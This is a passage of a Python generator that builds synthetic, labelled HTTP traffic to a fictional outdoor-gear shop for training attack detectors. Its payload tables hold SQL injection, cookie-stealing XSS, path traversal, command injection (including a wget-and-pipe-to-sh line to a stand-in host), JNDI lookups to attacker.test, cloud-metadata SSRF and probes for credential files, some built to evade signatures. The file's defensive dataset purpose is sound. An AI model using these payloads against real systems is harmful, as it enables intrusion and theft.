"""A seeded, offline generator of raw HTTP traffic to a made-up outdoor-gear shop
(``shop.harborpine.test``), written as CSIC-style raw request dumps and combined access-log lines,
and the package's default data set made by passing that text through
:mod:`threat_ensemble.http.features` (shipped as ``threat_ensemble/data/default_traffic.parquet``).

    python datasets/default_traffic.py traffic/           # raw dumps and access logs to featurize
    python datasets/default_traffic.py --write-default    # the shipped default data set, again

Normal traffic is what a real site sees: browsing sessions by desktop and mobile Chrome, Firefox,
Safari, Edge and others, arriving from search engines, social sites or campaign links (``utm_*``,
``gclid``), each page loading its static files (js, mjs, map, css, woff2, woff, ttf, eot, png, jpg,
jpeg, gif, svg, webp, ico, json, mp4, ... under ``/assets/<hash>/``, ``/img/``,
``/wp-content/uploads/2024/..``), 304s from the cache, 206s for video, CORS preflights; downloads
(pdf), crawlers (robots.txt, sitemap.xml, pages and images), link previews, feed readers, uptime
monitors (GET and HEAD) and API clients (curl, python-requests, axios, apps); with benign oddities
(long and quoted search queries, encoded but harmless characters, phrases that look like SQL, link
previews of outside URLs). Attacks come from their own clients: SQL injection, XSS, path
traversal, command injection, JNDI lookups and SSRF in query parameters, headers or only in POST
bodies, scanners (tool agents or spoofed browsers), credential stuffing and slow order-id
enumeration. About a quarter of the payloads are written to slip past the extractor's signatures,
and some attacks (credential stuffing in a raw dump, enumeration, body payloads seen only through
an access log) look like normal traffic in every feature, so no model can be perfect on it.

Each client's requests go wholly to one of the two formats, so the per-client windows of the log
part see whole histories. Labels are per request: 1 for a request that carries an attack (every
request of a scanner or a credential-stuffing run), 0 otherwise.
"""

from __future__ import annotations

import json
import zlib
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

import numpy as np
import pandas as pd

HOST = "shop.harborpine.test"
START = pd.Timestamp("2026-03-02 00:00:00", tz="UTC")  # a Monday
DAYS = 3
UTC_OFFSET = "+0100"
ATTACK_SHARE = 0.18
ATTACK_MIX = {  # share of the attack requests
    "sqli": 0.16,
    "xss": 0.11,
    "traversal": 0.08,
    "cmdi": 0.07,
    "jndi": 0.06,
    "ssrf": 0.07,
    "scanner": 0.20,
    "body": 0.11,
    "stuffing": 0.09,
    "enumeration": 0.05,
}
NORMAL_MIX = {"browser": 0.76, "crawler": 0.09, "preview": 0.01, "monitor": 0.04, "api": 0.09, "feed": 0.01}

BROWSERS = [  # desktop and mobile Chrome, Firefox, Safari, Edge, Samsung Internet, Opera
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.3; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:122.0) Gecko/20100101 Firefox/122.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Safari/537.36 Edg/121.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.0.0 Safari/537.36 OPR/107.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "CriOS/122.0.6261.89 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Android 14; Mobile; rv:123.0) Gecko/123.0 Firefox/123.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/121.0.6167.178 Mobile Safari/537.36 EdgA/121.0.2277.107",
]
CRAWLERS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.6261.94 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Googlebot-Image/1.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
    "(compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
]
PREVIEWERS = [  # link previews: a page and its share image
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "WhatsApp/2.23.20.0",
    "TelegramBot (like TwitterBot)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
]
FEED_READERS = [
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
    "Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 3 subscribers; )",
    "NewsBlur Feed Fetcher - 5 subscribers - https://www.newsblur.com/site/1234/harbor-pine",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) NetNewsWire/6.1",
]
MONITORS = [
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Mozilla/5.0 (compatible; StatusCake)",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "Datadog/Synthetics",
    "curl/8.5.0",
    "Blackbox Exporter/0.24.0",
]
MONITOR_PATHS = ["/", "/", "/healthz", "/status", "/api/v1/health", "/ping"]
API_CLIENTS = [
    "python-requests/2.31.0",
    "python-httpx/0.26.0",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "HarborPineApp/3.2 (iOS 17.3)",
    "HarborPineApp/3.2.1 (Android 14; okhttp/4.12.0)",
    "axios/1.6.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.36.3",
    "curl/8.5.0",
    "curl/7.81.0",
    "Dart/3.2 (dart:io)",
]
REFERERS = [  # where a browsing session comes from ("" = typed or bookmarked)
    "",
    "",
    "",
    "https://www.google.com/",
    "https://www.google.com/",
    "https://www.google.de/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://l.facebook.com/",
    "https://t.co/",
    "https://www.instagram.com/",
    "https://www.reddit.com/r/CampingGear/",
    "https://news.ycombinator.com/",
    "android-app://com.google.android.gm/",
    "https://mail.example-webmail.com/",
]
ATTACK_TOOLS = {
    "sqli": "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "xss": "Mozilla/5.0 (compatible; XSStrike)",
    "traversal": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004211)",
    "cmdi": "commix/v3.9 (https://commixproject.com)",
    "jndi": "Mozilla/5.0 zgrab/0.x",
    "ssrf": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
}
SCANNER_TOOLS = [
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0",
]
SCRIPTS = ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4"]

CATEGORIES = ["tents", "backpacks", "jackets", "boots", "stoves", "lamps", "kayaks", "sleeping-bags"]
ADJECTIVES = ["trail", "summit", "ridge", "harbor", "pine", "alpine", "coastal", "granite", "cedar", "north"]
NOUNS = ["tent", "pack", "shell", "boot", "stove", "lantern", "kayak", "quilt", "mug", "poles", "tarp"]
SEARCH_WORDS = [
    "waterproof",
    "tent",
    "2 person",
    "ultralight",
    "hiking",
    "boots",
    "women",
    "men",
    "rain jacket",
    "stove",
    "gas",
    "headlamp",
    "kids",
    "sale",
    "winter",
    "sleeping bag",
    "-10c",
    "kayak paddle",
    "size 44",
    "green",
]
BENIGN_ODD_SEARCHES = [  # benign text with quotes, symbols, SQL-like words and non-ASCII letters
    "men's waterproof boots",
    "o'neill jacket",
    "tent & tarp bundle",
    "100% merino wool socks",
    "c++ programmable headlamp",
    "folding drop table for camping",
    "select from 12 colours",
    "kids' boots size 2/3",
    "rock 'n' roll tee",
    "salt and pepper like grandma's grinder",
    "café mug",
    "münchen store pickup",
    "<3 gift ideas",
    "sleeping bag -15°c",
    'quote "harbor pine" catalogue',
    "1=1 deal",
]
BUILDS = ["3f9c2a1b", "a7e41d09"]  # two deploys' hashed asset folders
ICONS = ["cart", "search", "user", "menu", "close", "star", "heart", "arrow-right", "truck", "chevron-down"]
LANGUAGES = ["en", "de", "fr", "nl"]
# The static files a page of the site loads, with their shares of asset requests. Placeholders: {h}
# a build hash, {n} a number, {noun}, {product}, {mm} a month, {icon}, {lang}, {weight} a font
# weight, {ver} a version, {w} an image width.
ASSETS: list[tuple[str, float]] = [
    ("/assets/{h}/app.{h}.js", 8.0),
    ("/assets/{h}/vendor.{h}.js", 6.0),
    ("/assets/{h}/chunk-{n}.{h}.mjs", 3.0),
    ("/assets/{h}/app.{h}.js.map", 0.6),
    ("/static/js/app.js", 2.0),
    ("/static/js/analytics.js?v={ver}", 2.5),
    ("/assets/{h}/main.{h}.css", 8.0),
    ("/static/css/site.css", 2.5),
    ("/static/css/print.css?ver={ver}", 0.8),
    ("/static/fonts/inter-{weight}.woff2", 6.0),
    ("/static/fonts/inter-{weight}.woff", 1.5),
    ("/static/fonts/icons.ttf", 1.2),
    ("/static/fonts/icons.eot", 0.8),
    ("/img/logo.png", 6.0),
    ("/img/logo.svg", 3.0),
    ("/img/icons/{icon}.svg", 5.0),
    ("/img/hero-{n}.webp", 4.0),
    ("/img/spinner.gif", 1.2),
    ("/img/pixel.gif?page={n}&t={ver}", 1.0),
    ("/images/products/{product}-{n}.jpg", 7.0),
    ("/images/products/{product}-{n}.jpeg", 2.0),
    ("/images/products/{product}-{n}.webp?w={w}", 3.0),
    ("/static/img/{noun}-{n}.jpg", 2.0),
    ("/wp-content/uploads/2024/{mm}/{noun}-{n}.jpg", 3.0),
    ("/wp-content/uploads/2024/{mm}/{noun}-{n}-300x200.png", 1.5),
    ("/wp-content/uploads/2023/{mm}/IMG_{n}{n}.JPG", 0.8),
    ("/favicon.ico", 5.0),
    ("/favicon-32x32.png", 1.5),
    ("/apple-touch-icon.png", 1.5),
    ("/site.webmanifest", 1.2),
    ("/manifest.json", 0.8),
    ("/static/i18n/{lang}.json", 1.5),
    ("/media/{noun}-in-action.mp4", 0.8),
    ("/downloads/catalogue-2026.pdf", 0.6),
    ("/static/licenses.txt", 0.2),
]
FILES: list[tuple[str, float]] = [  # files reached by a link of their own: downloads, feeds, crawler files
    ("/downloads/catalogue-2026.pdf", 3.0),
    ("/downloads/size-guide.pdf", 2.0),
    ("/downloads/manuals/{noun}-x{n}.pdf", 2.0),
    ("/media/{noun}-in-action.mp4", 1.5),
    ("/images/products/{product}-{n}.jpg", 3.0),
    ("/wp-content/uploads/2024/{mm}/{noun}-{n}.jpg", 2.0),
    ("/img/og/{noun}-{n}.png", 1.5),
    ("/robots.txt", 1.0),
    ("/sitemap.xml", 0.8),
    ("/feed.xml", 0.8),
    ("/blog/feed.xml", 0.5),
    ("/ads.txt", 0.3),
    ("/.well-known/security.txt", 0.2),
    ("/static/data/stores.json", 0.6),
]
INFO_PAGES = [
    "/about", "/faq", "/shipping-returns", "/privacy", "/terms", "/contact-us", "/careers", "/gift-cards",
    "/sale", "/new-arrivals", "/blog/", "/stores/", "/help/sizing", "/account", "/account/orders", "/cart",
    "/wishlist", "/products/", "/brands/harbor-pine", "/en-gb/", "/de/", "/index.html",
]  # fmt: skip
CAMPAIGN_QUERIES = [  # query strings that ride along with a landing page
    "utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale-2026",
    "utm_source=google&utm_medium=cpc&utm_campaign=tents&utm_term=2+person+tent",
    "utm_source=facebook&utm_medium=social&utm_content=carousel-{n}",
    "gclid={token}",
    "fbclid={token}",
    "ref=hp-banner",
    "lang=de",
    "page={n}",
    "color=green&size=m",
    "mc_cid={hex}&mc_eid={hex}",
]
PROBES = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin/",
    "/admin/login.php",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/config.php.bak",
    "/server-status",
    "/actuator/env",
    "/actuator/health",
    "/.DS_Store",
    "/api/swagger.json",
    "/console",
    "/manager/html",
    "/cgi-bin/test.cgi",
    "/.htaccess",
    "/web.config",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/old/",
    "/test/",
    "/debug",
    "/info.php",
    "/.aws/credentials",
    "/id_rsa",
]

# (payload, matches the extractor's signatures). The False ones are the hard cases.
PAYLOADS: dict[str, list[tuple[str, bool]]] = {
    "sqli": [
        ("' OR '1'='1", True),
        ("1' OR 1=1-- -", True),
        ("1 UNION SELECT username,password FROM users--", True),
        ("1/**/UnIoN/**/SeLeCt/**/1,2,version()", True),
        ("1; DROP TABLE orders", True),
        ("1' AND SLEEP(5)#", True),
        ("admin'--", True),
        ("1) UNION ALL SELECT NULL,NULL,NULL--", True),
        ("1' AND extractvalue(1,concat(0x7e,version()))--", True),
        ("1 WAITFOR DELAY '0:0:5'--", True),
        ("x' AND (SELECT 1 FROM information_schema.tables LIMIT 1)=1--", True),
        ("1 AND 3>2", False),
        ("5-0", False),
        ("1 RLIKE 1", False),
        ("a'||'b", False),
        ("1 AND ascii(substr(user(),1,1))>64", False),
        ("price,(case when 1>0 then price else id end)", False),
    ],
    "xss": [
        ("<script>alert(1)</script>", True),
        ('"><img src=x onerror=alert(document.cookie)>', True),
        ("<svg/onload=alert(1)>", True),
        ("javascript:alert(1)", True),
        ("<iframe src=javascript:alert(1)>", True),
        ("'><body onload=alert('x')>", True),
        ('" autofocus onfocus=alert(1) x="', True),
        ("<details open ontoggl&#101;=confirm(1)>", False),
        ('<a href="jav&#x09;ascript:confirm(1)">win</a>', False),
        ('"-confirm`1`-"', False),
        ("{{constructor.constructor('confirm(1)')()}}", False),
        ("<marquee loop=1 width=0 onfinish=confirm(1)>", False),
    ],
    "traversal": [
        ("../../../../etc/passwd", True),
        ("..%2f..%2f..%2fetc%2fpasswd", True),
        ("....//....//....//etc/passwd", True),
        ("..\\..\\..\\windows\\win.ini", True),
        ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", True),
        ("/proc/self/environ", True),
        ("..;/..;/admin/config.yml", False),
        ("..%c0%af..%c0%afapp%c0%afsettings.py", False),
        ("%2e%2e%5c%2e%2e%5capp.ini", False),
    ],
    "cmdi": [
        ("; cat /etc/passwd", True),
        ("| id", True),
        ("$(whoami)", True),
        ("`uname -a`", True),
        ("&& ping -c 3 198.51.100.7", True),
        ("; wget http://203.0.113.9/x.sh -O- | sh", True),
        ("\nid", False),
        ("${IFS}cat${IFS}/etc/hostname", False),
        ("127.0.0.1\nwhoami", False),
    ],
    "jndi": [
        ("${jndi:ldap://203.0.113.5:1389/a}", True),
        ("${${lower:j}ndi:${lower:r}mi://x.attacker.test/o}", True),
        ("${${::-j}${::-n}${::-d}${::-i}:dns://x.attacker.test/}", True),
        ("${jndi:dns://${env:USER}.x.attacker.test}", True),
        ("${${base64:JHtqbmRpOmxkYXA6Ly94fQ==}}", False),
        ("$%7Bj${k8s:k5:-ND}i:ldap://x.attacker.test/a}", False),
    ],
    "ssrf": [
        ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", True),
        ("http://127.0.0.1:6379/", True),
        ("file:///etc/passwd", True),
        ("gopher://127.0.0.1:11211/_stats", True),
        ("http://localhost:8080/admin", True),
        ("http://10.0.0.12/internal/status", True),
        ("http://metadata.google.internal/computeMetadata/v1/", True),
        ("http://2852039166/latest/meta-data/", False),
        ("http://0x7f.1/", False),
        ("http://[0:0:0:0:0:ffff:127.0.0.1]/", False),
        ("http://internal-admin.harborpine.test/", False),
    ],
}
EXTERNAL_URLS = [
    "https://www.example.org/blog/best-tents-2026",
    "https://cdn.example.net/img/tent-42.jpg",
    "https://outdoor-review.example.com/articles/123?ref=hp",
    "https://www.youtube.example/watch?v=a1b2c3",
    "https://images.example.com/u/8812/avatar.png",
]
# Endpoints with query parameters: normal clients send benign values, attackers a payload in one of
# them, so the path and the parameter names never give an attack away. name -> (path, parameters).
ENDPOINTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "listing": ("/products/{category}", ("page", "sort")),
    "search": ("/search", ("q", "page")),
    "order": ("/account/orders", ("id",)),
    "api_products": ("/api/v1/products", ("category", "limit", "fields")),
    "contact": ("/contact", ("subject",)),
    "download": ("/static/download", ("file",)),
    "export": ("/api/v1/export", ("template", "name")),
    "blog": ("/blog/view", ("page",)),
    "track": ("/api/v1/track", ("carrier", "number")),
    "stores": ("/api/v1/stores", ("zip", "radius")),
    "preview": ("/api/v1/preview", ("url",)),
    "image": ("/image-proxy", ("src", "w")),
    "avatar": ("/account/avatar", ("from_url",)),
}
# family -> the (endpoint, parameter) pairs it attacks
TARGETS: dict[str, list[tuple[str, str]]] = {
    "sqli": [("listing", "sort"), ("search", "q"), ("order", "id"), ("api_products", "category")],
    "xss": [("search", "q"), ("contact", "subject"), ("listing", "sort")],
    "traversal": [("download", "file"), ("export", "template"), ("blog", "page")],
    "cmdi": [("track", "number"), ("stores", "zip"), ("export", "name")],
    "jndi": [("search", "q"), ("api_products", "category")],
    "ssrf": [("preview", "url"), ("image", "src"), ("avatar", "from_url")],
}
NORMAL_PAGES = {  # page kind -> share of normal page views
    "home": 0.12,
    "listing": 0.16,
    "product": 0.16,
    "search": 0.13,
    "blog_post": 0.04,
    "blog": 0.02,
    "cart": 0.05,
    "login": 0.04,
    "checkout": 0.02,
    "review": 0.03,
    "order": 0.07,
    "api_products": 0.02,
    "contact": 0.02,
    "download": 0.03,
    "export": 0.01,
    "track": 0.03,
    "stores": 0.02,
    "preview": 0.02,
    "image": 0.03,
    "avatar": 0.01,
    "info": 0.07,
    "landing": 0.04,
    "file": 0.04,
}
# Response sizes of static files by extension: (mu, sigma) of a lognormal, in bytes.
STATIC_SIZES = {
    "js": (11.0, 0.8),
    "mjs": (9.5, 0.8),
    "map": (13.0, 0.4),
    "css": (10.3, 0.5),
    "woff2": (10.4, 0.2),
    "woff": (10.7, 0.2),
    "ttf": (10.2, 0.2),
    "eot": (10.2, 0.2),
    "png": (9.5, 1.0),
    "svg": (6.8, 0.6),
    "webp": (10.8, 0.7),
    "gif": (7.0, 1.5),
    "jpg": (10.8, 0.7),
    "jpeg": (10.8, 0.7),
    "ico": (8.5, 0.3),
    "webmanifest": (6.0, 0.2),
    "json": (8.5, 1.0),
    "mp4": (13.5, 1.0),
    "pdf": (13.5, 0.7),
    "txt": (6.0, 0.8),
    "xml": (9.0, 1.0),
}
IMAGE_TYPES = ("png", "jpg", "jpeg", "gif", "webp", "svg", "ico")
FONT_TYPES = ("woff2", "woff", "ttf", "eot")
REVIEWS = [
    "Great tent, survived a storm!",
    "I'd select this one from all the others - light & warm <3",
    "Zipper broke after 2 trips :(",
    "Perfect for kids' camp; 10/10 would buy again",
    "Comfortable, but runs small - order +1 size",
    "Works at -10C. Packs to 30x15cm.",
]


def _extension(target: str) -> str:
    """The lower-case extension of a target's last path segment, ``none`` without one."""
    last = target.split("?", 1)[0].rsplit("/", 1)[-1]
    return last.rsplit(".", 1)[-1].lower() if "." in last.strip(".") else "none"


@dataclass
class _Request:
    t: float
    client: str
    method: str
    target: str
    ua: str
    referer: str
    headers: tuple[tuple[str, str], ...]
    body: str
    content_type: str
    status: int
    size: int
    label: int
    family: str


class _Generator:
    """Clients and their requests; one Python object per request is fine at these sizes."""

    def __init__(self, seed: int) -> None:
        self.rng = np.random.default_rng(seed)
        self.requests: list[_Request] = []
        self.products = [f"{a}-{b}-{i}" for i, (a, b) in enumerate((a, b) for a in ADJECTIVES for b in NOUNS)]
        kinds = list(NORMAL_PAGES)
        shares = np.array(list(NORMAL_PAGES.values()))
        self.page_kinds, self.page_p = kinds, shares / shares.sum()

    # --------------------------------------------------------------- small helpers
    def pick(self, items: list) -> object:
        return items[int(self.rng.integers(len(items)))]

    def chance(self, p: float) -> bool:
        return bool(self.rng.random() < p)

    def ip(self, private: float = 0.0) -> str:
        r = self.rng.integers(1, 255, 4)
        if self.chance(private):
            return str(
                self.pick([f"10.{r[1]}.{r[2]}.{r[3]}", f"192.168.{r[2]}.{r[3]}", f"172.{16 + r[1] % 16}.{r[2]}.{r[3]}"])
            )
        first = int(r[0])
        while first in (10, 127, 169, 172, 192, 100):
            first = int(self.rng.integers(1, 224))
        return f"{first}.{r[1]}.{r[2]}.{r[3]}"

    def start_time(self, diurnal: float) -> float:
        """Seconds after START; ``diurnal`` is the chance of following the day's rhythm."""
        day = int(self.rng.integers(DAYS))
        hour = (self.rng.normal(14.0, 4.0) if self.chance(diurnal) else self.rng.uniform(0, 24)) % 24
        return day * 86400.0 + hour * 3600.0

    def page_size(self) -> int:
        return int(self.rng.lognormal(9.3, 0.6))

    def status(self, error_rate: float) -> int:
        if not self.chance(error_rate):
            return 200
        return int(self.pick([404, 404, 403, 400, 500, 401]))

    def encode(self, payload: str) -> str:
        """A query value as clients send it: fully encoded, partly encoded (quotes and brackets left
        as they are, as tools often do) or double encoded."""
        style = self.rng.random()
        if style < 0.45:
            return quote(payload, safe="")
        if style < 0.9:
            return quote(payload, safe="'()*,;=:/$!@<>{}|`")
        return quote(quote(payload, safe=""), safe="")

    def search_words(self) -> str:
        if self.chance(0.07):
            return str(self.pick(BENIGN_ODD_SEARCHES))
        n = int(self.rng.integers(8, 20)) if self.chance(0.05) else int(self.rng.integers(1, 4))  # long searches
        return " ".join(str(self.pick(SEARCH_WORDS)) for _ in range(n))

    def benign_value(self, param: str) -> str:
        """A harmless value of one endpoint parameter, already encoded for the URL."""
        rng = self.rng
        values = {
            "page": lambda: str(rng.integers(1, 6)),
            "sort": lambda: str(self.pick(["price", "name", "rating", "newest", "price_desc"])),
            "q": lambda: quote_plus(self.search_words()) if self.chance(0.8) else quote(self.search_words(), safe=""),
            "id": lambda: str(rng.integers(10000, 99999)),
            "category": lambda: str(self.pick(CATEGORIES)),
            "limit": lambda: str(self.pick([20, 50, 100])),
            "fields": lambda: quote(str(self.pick(["id,name,price", "id,name", "id,name,price,stock"])), safe=","),
            "subject": lambda: quote_plus(str(self.pick(["returns", "shipping", "warranty claim", "other", "b2b"]))),
            "file": lambda: str(self.pick(["catalogue-2026.pdf", "size-guide.pdf", "manuals/stove-x2.pdf"])),
            "template": lambda: str(self.pick(["invoice", "packing-slip", "receipt"])),
            "name": lambda: f"order-{rng.integers(10000, 99999)}",
            "carrier": lambda: str(self.pick(["ups", "dhl", "usps"])),
            "number": lambda: f"1Z{rng.integers(10**9, 10**10)}",
            "zip": lambda: str(rng.integers(10000, 99999)),
            "radius": lambda: str(self.pick([10, 25, 50])),
            "url": lambda: quote(str(self.pick(EXTERNAL_URLS)), safe=""),
            "src": lambda: quote(str(self.pick(EXTERNAL_URLS)), safe=":/"),
            "w": lambda: str(self.pick([200, 400, 800])),
            "from_url": lambda: quote(str(self.pick(EXTERNAL_URLS)), safe=""),
        }
        if param == "page" and self.chance(0.3):
            return f"{self.pick(ADJECTIVES)}-{self.pick(NOUNS)}-guide.html"
        return values[param]()

    def endpoint_target(self, endpoint: str, inject: str | None = None, payload: str = "") -> str:
        path, params = ENDPOINTS[endpoint]
        path = path.replace("{category}", str(self.pick(CATEGORIES)))
        query = "&".join(f"{p}={payload if p == inject else self.benign_value(p)}" for p in params)
        return f"{path}?{query}"

    def login_body(self) -> str:
        user = quote_plus(f"{self.pick(['jane', 'tom', 'li', 'ana', 'sam', 'kofi'])}.{self.pick(NOUNS)}@mail.test")
        return f"email={user}&password={quote_plus(self.rng.bytes(6).hex() + '!')}&remember=on"

    def add(self, t: float, client: str, method: str, target: str, ua: str, **kw: object) -> None:
        body = str(kw.get("body", ""))
        default_type = "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"
        content_type = str(kw.get("content_type") or (default_type if body else ""))
        self.requests.append(
            _Request(
                t=t,
                client=client,
                method=method,
                target=target,
                ua=ua,
                referer=str(kw.get("referer", "")),
                headers=tuple(kw.get("headers", ())),  # type: ignore[arg-type]
                body=body,
                content_type=content_type,
                status=int(kw.get("status", 200)),
                size=int(kw.get("size", self.page_size())),
                label=int(kw.get("label", 0)),
                family=str(kw.get("family", "normal")),
            )
        )

    # --------------------------------------------------------------- normal clients
    def fill(self, template: str) -> str:
        """A path of :data:`ASSETS` or :data:`FILES` with its placeholders filled."""
        rng = self.rng
        fillers = {
            "{h}": lambda: str(self.pick(BUILDS)),
            "{n}": lambda: str(rng.integers(1, 40)),
            "{noun}": lambda: str(self.pick(NOUNS)),
            "{product}": lambda: str(self.pick(self.products)),
            "{mm}": lambda: f"{rng.integers(1, 13):02d}",
            "{icon}": lambda: str(self.pick(ICONS)),
            "{lang}": lambda: str(self.pick(LANGUAGES)),
            "{weight}": lambda: str(self.pick(["regular", "regular", "bold", "italic"])),
            "{ver}": lambda: f"{rng.integers(1, 7)}.{rng.integers(0, 10)}.{rng.integers(0, 20)}",
            "{w}": lambda: str(self.pick([320, 640, 960, 1280])),
        }
        for key, value in fillers.items():
            if key in template:
                template = template.replace(key, value())
        return template

    def pick_weighted(self, table: list[tuple[str, float]], k: int = 1) -> list[str]:
        weights = np.array([w for _, w in table])
        chosen = self.rng.choice(len(table), size=min(k, len(table)), replace=False, p=weights / weights.sum())
        return [self.fill(table[int(i)][0]) for i in chosen]

    def campaign_query(self) -> str:
        query = str(self.pick(CAMPAIGN_QUERIES)).replace("{n}", str(self.rng.integers(1, 9)))
        query = query.replace("{hex}", self.rng.bytes(5).hex())
        token = "".join(self.rng.choice(list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"), 40))
        return query.replace("{token}", token)

    def normal_page(self, error_rate: float = 0.03) -> tuple[str, str, str, int]:
        """(method, target, body, status) of one page view, benign oddities included."""
        kind = self.page_kinds[int(self.rng.choice(len(self.page_kinds), p=self.page_p))]
        status = self.status(error_rate)
        if kind == "home":
            return "GET", "/", "", status
        if kind == "product":
            return "GET", f"/products/{self.pick(CATEGORIES)}/{self.pick(self.products)}.html", "", status
        if kind == "listing" and self.chance(0.4):  # a category page without a query
            return "GET", f"/products/{self.pick(CATEGORIES)}{self.pick(['', '/'])}", "", status
        if kind == "blog_post":
